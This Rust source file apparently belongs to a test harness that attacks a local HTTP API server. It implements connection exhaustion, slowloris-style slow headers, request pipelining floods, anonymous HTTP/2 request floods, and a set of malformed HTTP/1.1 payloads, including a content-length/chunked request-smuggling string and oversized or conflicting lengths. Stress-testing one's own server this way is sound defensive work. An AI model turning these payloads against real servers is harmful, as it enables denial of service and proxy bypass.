//! Connections that are silent, slow or many, or that carry half of a request.

use std::collections::VecDeque;
use std::net::Ipv4Addr;
use std::time::{Duration, Instant};

use anyhow::Result;
use tokio::net::TcpStream;

use super::eviction_requests::{Findings, create_requests, no_findings};
use crate::attack::Attack;
use crate::client::{RawHttp, UserRequest};
use crate::context::{ATTACKER_ADDRESS, AttackContext};

/// More than the server has places for, if this process may open so many.
const SILENT: usize = 17_000;
/// Number of tasks that open them, and how long they may take.
const OPENERS: usize = 16;
const OPENING: (Duration, Duration) = (Duration::from_secs(8), Duration::from_secs(40));
/// Each opener stops after this many connections that the server closed again: the server has a
/// cap, and more would show nothing.
const ENOUGH: usize = 50;
/// The pause when the kernel takes no connection yet.
const RETRY_PAUSE: Duration = Duration::from_millis(50);
/// File descriptors that are left for everything else.
pub const SPARE: usize = 2_500;
/// The address of clients without a user, beside that of the attacker.
const STRANGER_ADDRESS: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 3);

/// The attacks of this module.
pub fn all() -> Vec<Attack> {
    vec![
        Attack::new("silent-connections", "connections from one address that never shake hands", |f| {
            Box::pin(silent(f))
        })
        .by_strangers(),
        Attack::new("handshakes", "handshakes without a request, 32 at a time", |f| Box::pin(handshakes(f)))
            .by_strangers(),
        Attack::new(
            "anonymous-streams",
            "anonymous requests over HTTP/2, straight and through the aggregator",
            |f| Box::pin(anonymous(f)),
        )
        .by_strangers(),
        Attack::new("slow-heads", "500 connections whose request comes byte by byte", |f| {
            Box::pin(slow_heads(f))
        }),
        Attack::new(
            "pipelining",
            "thousands of requests on a connection before the first answer is read",
            |f| Box::pin(pipelining(f)),
        ),
    ]
}

async fn silent(context: AttackContext) -> Findings {
    let most = SILENT.min(descriptors().saturating_sub(SPARE)) / OPENERS;
    let (began, opening) = (Instant::now(), context.pick(OPENING.0, OPENING.1));
    let open = (0..OPENERS).map(|_| {
        let context = context.clone();
        async move {
            let (mut held, mut closed) = (VecDeque::<TcpStream>::new(), 0);
            while held.len() < most && closed < ENOUGH && began.elapsed() < opening {
                if held.front().is_some_and(|oldest| matches!(oldest.try_read(&mut [0]), Ok(0))) {
                    held.pop_front();
                    closed += 1;
                    context.count("closed");
                }
                match tokio::time::timeout(RETRY_PAUSE, context.setup.direct.connect_tcp(ATTACKER_ADDRESS))
                    .await
                {
                    Ok(Ok(stream)) => {
                        context.count("open");
                        held.push_back(stream);
                    }
                    _ => tokio::time::sleep(RETRY_PAUSE).await,
                }
            }
            held
        }
    });
    let held = futures::future::join_all(open).await;
    // As long as an attack lasts, once all are open.
    context.wait().await;
    drop(held);
    no_findings()
}

/// As many as this process may open (proc_pid_limits(5)).
pub fn descriptors() -> usize {
    let limits = std::fs::read_to_string("/proc/self/limits").unwrap_or_default();
    let line = limits.lines().find_map(|line| line.strip_prefix("Max open files"));
    line.and_then(|line| line.split_whitespace().next()?.parse().ok()).unwrap_or(1024)
}

async fn handshakes(context: AttackContext) -> Findings {
    let each = context.clone();
    context
        .repeat(32, move |_, _| {
            let context = each.clone();
            async move {
                let stream = context.setup.direct.http2(ATTACKER_ADDRESS).await?;
                context.count("shaken");
                drop(stream);
                Ok(())
            }
        })
        .await;
    no_findings()
}

async fn anonymous(context: AttackContext) -> Findings {
    let paths =
        [context.tenant.requests(), "/apis".to_owned(), "/metrics".to_owned(), "/openapi/v2".to_owned()];
    let each = context.clone();
    context
        .repeat(8, move |lane, _| {
            let (context, paths) = (each.clone(), paths.clone());
            async move {
                let endpoint = if lane % 2 == 0 { &context.setup.direct } else { &context.setup.host };
                let connection = context.stranger(endpoint, STRANGER_ADDRESS).await?;
                while !connection.is_closed() {
                    let asked = paths.clone().map(|path| ask_owned(connection.clone(), path));
                    for answer in futures::future::join_all(asked).await {
                        context.note(&answer);
                    }
                }
                Ok(())
            }
        })
        .await;
    no_findings()
}

async fn ask_owned(
    connection: crate::client::UserConnection,
    path: String,
) -> Result<crate::client::UserResponse> {
    connection.ask(&UserRequest::get(path)).await
}

async fn slow_heads(context: AttackContext) -> Findings {
    let each = context.clone();
    context
        .repeat(500, move |_, _| {
            let context = each.clone();
            async move {
                let mut raw = RawHttp::open(&context.setup.direct, ATTACKER_ADDRESS).await?;
                context.count("open");
                for byte in b"GET /apis HTTP/1.1\r\nx: ".iter().chain(std::iter::repeat_n(&b'y', 1000)) {
                    raw.write([*byte]).await?;
                    tokio::time::sleep(Duration::from_millis(200)).await;
                }
                Ok(())
            }
        })
        .await;
    no_findings()
}

async fn pipelining(context: AttackContext) -> Findings {
    create_requests(&context, 50, 10_000).await?;
    let token = &context.tenant.account().token;
    let one = format!(
        "GET {} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {token}\r\n\r\n",
        context.tenant.requests()
    );
    let (each, all) = (context.clone(), one.repeat(2_000));
    context
        .repeat(16, move |_, _| {
            let (context, all) = (each.clone(), all.clone());
            async move {
                let mut raw = RawHttp::open(&context.setup.direct, ATTACKER_ADDRESS).await?;
                context.count("pipeline");
                raw.write(all).await?;
                context.wait().await;
                Ok(())
            }
        })
        .await;
    no_findings()
}

/// HTTP/1.1 whose bodies are not what the head says.
pub async fn half_requests(context: AttackContext) -> Findings {
    let token = &context.tenant.account().token;
    let head = format!(
        "POST {} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {token}\r\ncontent-type: application/json\r\n",
        context.tenant.requests()
    );
    let trailers: String = (0..500).map(|at| format!("t{at}: {}\r\n", "z".repeat(100))).collect();
    let requests = [
        format!("{head}transfer-encoding: chunked\r\n\r\n2\r\n{{}}\r\n0\r\n{trailers}\r\n"),
        format!("{head}transfer-encoding: chunked\r\n\r\n{}", "1;x=y\r\n \r\n".repeat(50_000)),
        format!("{head}transfer-encoding: chunked\r\n\r\nffffffffffffffff\r\n{{}}"),
        format!("{head}expect: 100-continue\r\ncontent-length: 3000000\r\n\r\n"),
        format!("{head}content-length: 99999999999999\r\n\r\n{{}}"),
        format!("{head}content-length: 2\r\ncontent-length: 3\r\n\r\n{{}}"),
        format!(
            "{head}content-length: 2\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /livez HTTP/1.1\r\n\r\n"
        ),
        "GET /\u{0}\u{1} HTTP/1.1\r\n\r\n".to_owned(),
        format!("GET / HTTP/1.1\r\n{}\r\n", "h: v\r\n".repeat(5_000)),
    ];
    let (each, limit) = (context.clone(), Duration::from_millis(500));
    context
        .repeat(32, move |_, round| {
            let (context, text) = (each.clone(), requests[round % requests.len()].clone());
            async move {
                let mut raw = RawHttp::open(&context.setup.direct, ATTACKER_ADDRESS).await?;
                let _ = raw.write(text).await;
                match tokio::time::timeout(limit, raw.code()).await {
                    Ok(Ok(code)) => context.count(&code.to_string()),
                    Ok(Err(_)) => context.count("closed"),
                    Err(_) => context.count("waits"),
                }
                Ok(())
            }
        })
        .await;
    no_findings()
}
